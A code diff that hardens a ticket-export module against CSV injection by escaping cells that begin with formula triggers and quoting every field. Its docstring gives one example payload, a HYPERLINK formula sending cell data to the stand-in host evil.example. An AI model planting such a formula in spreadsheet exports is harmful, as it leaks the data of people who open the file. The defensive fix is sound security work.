@@ -2,6 +2,13 @@
 
 Excel opens the file with umlauts intact: UTF-8 with a byte-order mark, and the list
 separator Excel expects for the language (`;` in German, `,` in English).
+
+A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
+return as a formula: a reporter's title
+`=HYPERLINK("https://evil.example/?d="&C2,"Details")` would send the admin's data away
+when they open the export. Following OWASP's advice on CSV injection, every such cell of
+text a person wrote is prefixed with `'`, which spreadsheets show as text, and every cell
+is quoted.
 """
 
 from __future__ import annotations
@@ -36,6 +43,14 @@ COLUMNS = (
     "version",
 )
 BATCH = 1000
+
+# OWASP's list, plus the full-width forms some spreadsheets also read as formulas.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def neutralise(cell: str) -> str:
+    """A cell a spreadsheet shows as the text it is, never runs as a formula."""
+    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell
 
 
 def ticket_rows(
@@ -78,14 +93,14 @@ def ticket_rows(
     for row in result:
         yield [
             str(row.id),
-            row.title,
-            row.description,
+            neutralise(row.title),
+            neutralise(row.description),
             row.status.value,
             row.priority.value,
             row.reporter_id,
-            row[6] or "",
+            neutralise(row[6] or ""),
             row.assignee_id or "",
-            row[8] or "",
+            neutralise(row[8] or ""),
             _iso(row.created_at),
             _iso(row.updated_at),
             _iso(row.first_response_at),
@@ -99,7 +114,9 @@ def ticket_rows(
 def write_csv(rows: Iterator[list[str]], out: IO[str], language: Language) -> int:
     """Write the header and the rows; returns how many tickets were written."""
     out.write("\ufeff")
-    writer = csv.writer(out, delimiter=";" if language is Language.DE else ",")
+    writer = csv.writer(
+        out, delimiter=";" if language is Language.DE else ",", quoting=csv.QUOTE_ALL
+    )
     writer.writerow(COLUMNS)
     count = 0
     for row in rows:
